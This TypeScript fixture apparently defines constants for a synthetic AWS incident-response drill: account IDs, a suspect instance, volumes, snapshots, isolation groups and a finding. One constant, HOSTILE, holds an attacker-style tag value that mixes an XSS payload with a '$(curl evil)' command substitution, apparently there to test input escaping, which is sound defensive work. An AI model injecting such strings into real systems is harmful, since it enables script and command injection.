/** Accounts, Region and start of the synthetic run: those of the drill's own organization, and one member. */
export const ACCOUNTS = {
  management: '602011150001',
  security: '602011150002',
  evidence: '602011150003',
  forensics: '602011150004',
} as const;
/** The account that holds the suspect. */
export const MEMBER = '602011150005';
/** Home Region, and the suspect's. */
export const REGION = 'eu-west-1';
/** 2026-01-01T00:00:00Z as epoch milliseconds: when the finding arrives. */
export const START = 1_767_225_600_000;
/** When the locks on its evidence end: 90 days later. */
export const UNTIL = START + 90 * 86_400_000;
/** The suspect, and its incident. */
export const SUSPECT = 'i-0aaaaaaaaaaaaaaaa';
/** A healthy instance on the same profile. */
export const SIBLING = 'i-0bbbbbbbbbbbbbbbb';
/** What the Auto Scaling group started in the suspect's place. */
export const REPLACEMENT = 'i-0cccccccccccccccc';
/** The forensic machine. */
export const MACHINE = 'i-0dddddddddddddddd';
/** The one incident of the run. */
export const INCIDENT = 'inc-0123456789abcdef0123';
/** The finding that opened it. */
export const FINDING = '11111111111111111111111111111111';
/** The suspect's volumes. */
export const VOLUMES = [
  { volumeId: 'vol-0aaaaaaaaaaaaaaa1', content: 'bytes of the root volume', sizeGiB: 8 },
  { volumeId: 'vol-0aaaaaaaaaaaaaaa2', content: 'bytes of the data volume', sizeGiB: 20 },
] as const;
/** The snapshots of the freeze, by volume. */
export const FREEZE = ['snap-0aaaaaaaaaaaaaaa1', 'snap-0aaaaaaaaaaaaaaa2'] as const;
/** The copies in the evidence account, by volume. */
export const COPIES = ['snap-0eeeeeeeeeeeeeee1', 'snap-0eeeeeeeeeeeeeee2'] as const;
/** The suspect's interfaces. */
export const INTERFACES = ['eni-0aaaaaaaaaaaaaaa1', 'eni-0aaaaaaaaaaaaaaa2'] as const;
/** The isolation group of the suspect's VPC. */
export const ISOLATION_GROUP = 'sg-0aaaaaaaaaaaaaaa1';
/** The group that the suspect was in, and its sibling is. */
export const WEB_GROUP = 'sg-0aaaaaaaaaaaaaaa2';
/** The Auto Scaling group. */
export const GROUP = 'web';
/** What an attacker wrote into a tag. */
export const HOSTILE = '<img src="x" onerror=alert(1)> $(curl evil)';
/** The far end that the finding names. */
export const REMOTE = '198.51.100.23';
/** A name that the finding tells, and where it was asked for. */
export const ASKED = 'payload.t.example.net';
export const RESOLVER = '169.254.169.253';
